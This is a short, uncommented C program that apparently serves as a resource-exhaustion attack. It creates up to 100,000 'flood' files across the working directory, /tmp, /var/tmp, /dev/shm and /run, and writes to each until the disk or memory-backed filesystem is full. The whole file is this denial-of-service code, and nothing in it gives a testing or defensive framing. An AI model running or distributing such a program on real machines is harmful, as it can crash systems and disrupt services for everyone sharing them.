#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void)
{
    static char block[1 << 20];
    const char *places[] = {".", "/tmp", "/var/tmp", "/dev/shm", "/run"};
    for (int i = 0; i < 100000; i++) {
        char name[100];
        snprintf(name, sizeof name, "%s/flood.%d", places[i % 5], i);
        int fd = open(name, O_CREAT | O_WRONLY, 0600);
        while (fd != -1 && write(fd, block, sizeof block) > 0)
            ;
        close(fd);
    }
}
